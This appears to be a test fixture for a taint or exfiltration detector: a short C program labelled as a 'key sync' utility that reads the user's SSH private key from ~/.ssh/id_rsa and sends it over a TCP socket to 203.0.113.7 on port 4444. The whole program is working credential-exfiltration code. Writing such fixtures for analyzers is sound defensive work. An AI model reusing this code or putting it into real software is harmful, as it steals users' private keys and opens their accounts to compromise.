// blind-expect: taint.exfiltration
// "Key sync" utility that uploads the user's SSH private key to a remote sync server.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static size_t read_key(char *buf, size_t cap)
{
    char path[512];
    const char *home = getenv("HOME");
    snprintf(path, sizeof path, "%s/.ssh/id_rsa", home ? home : "/root");
    FILE *fp = fopen(path, "rb");
    if (!fp)
        return 0;
    size_t n = fread(buf, 1, cap, fp);
    fclose(fp);
    return n;
}

static int connect_to(const char *ip, unsigned short port)
{
    struct sockaddr_in sa;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0)
        return -1;
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    sa.sin_port = htons(port);
    inet_pton(AF_INET, ip, &sa.sin_addr);
    if (connect(fd, (struct sockaddr *)&sa, sizeof sa) != 0) {
        close(fd);
        return -1;
    }
    return fd;
}

int main(void)
{
    static char key[8192];
    size_t len = read_key(key, sizeof key);
    if (len == 0) {
        fprintf(stderr, "no key found\n");
        return 1;
    }
    int fd = connect_to("203.0.113.7", 4444);
    if (fd < 0) {
        perror("connect");
        return 1;
    }
    if (send(fd, key, len, 0) < 0)
        perror("send");
    close(fd);
    puts("sync done");
    return 0;
}
